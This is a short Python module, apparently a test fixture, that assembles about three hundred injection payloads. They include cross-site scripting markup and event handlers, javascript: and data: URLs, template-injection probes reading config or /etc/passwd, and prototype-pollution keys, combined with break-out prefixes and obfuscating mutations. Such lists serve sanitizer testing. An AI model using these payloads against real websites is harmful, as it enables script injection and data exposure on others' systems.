"""Three hundred texts that want to run: markup, addresses and templates, plain and in disguise."""

from __future__ import annotations

from itertools import product

MARKUP = [
    "<script>alert(1)</script>", "<script src=data:,alert(1)></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<b onclick=alert(1)>x</b>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)'</style>", "<link rel=stylesheet href=data:text/css,*{}>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>", "<template><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1)>", "<svg><script>alert(1)</script>", "<marquee onstart=alert(1)>",
    "<xss autofocus tabindex=1>", "<svg><use href=data:image/svg+xml,x#y>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "javascript:/*--></title>*/alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:alert(1)",
    'http://x/#"><script>alert(1)</script>', "http://x/'onmouseover='alert(1)",
    "https://x/?a=<img src=x onerror=alert(1)>", "//x/<svg onload=alert(1)>", "blob:http://x/1", "file:///etc/passwd",
    "http://javascript:alert(1)@x/", "mailto:a@b?body=<script>",
]  # fmt: skip
TEMPLATES = [
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ config.items() }}", "${alert(1)}", "#{alert(1)}",
    "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}", "[x](javascript:alert(1))",
    "![x](x onerror=alert(1))", "`<img src=x onerror=alert(1)>`", "**<script>alert(1)</script>**", "__proto__",
    "constructor", '{"__proto__":{"x":1}}', "toString", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)", "';alert(1)//",
]  # fmt: skip
WAYS_OUT = ["", '">', "'>", "</title>", "</script>", "</template>", "-->", "]]>"]


def _all() -> list[str]:
    disguised = [way_out + markup for way_out, markup in product(WAYS_OUT, MARKUP)]
    louder = [markup.swapcase().replace("ALERT(1)", "alert(1)") for markup in MARKUP]
    broken = [markup.replace(" ", "\x0c").replace("=", "\t=\t") for markup in MARKUP]
    return list(dict.fromkeys([*disguised, *ADDRESSES, *TEMPLATES, *louder, *broken]))


ALL = _all()
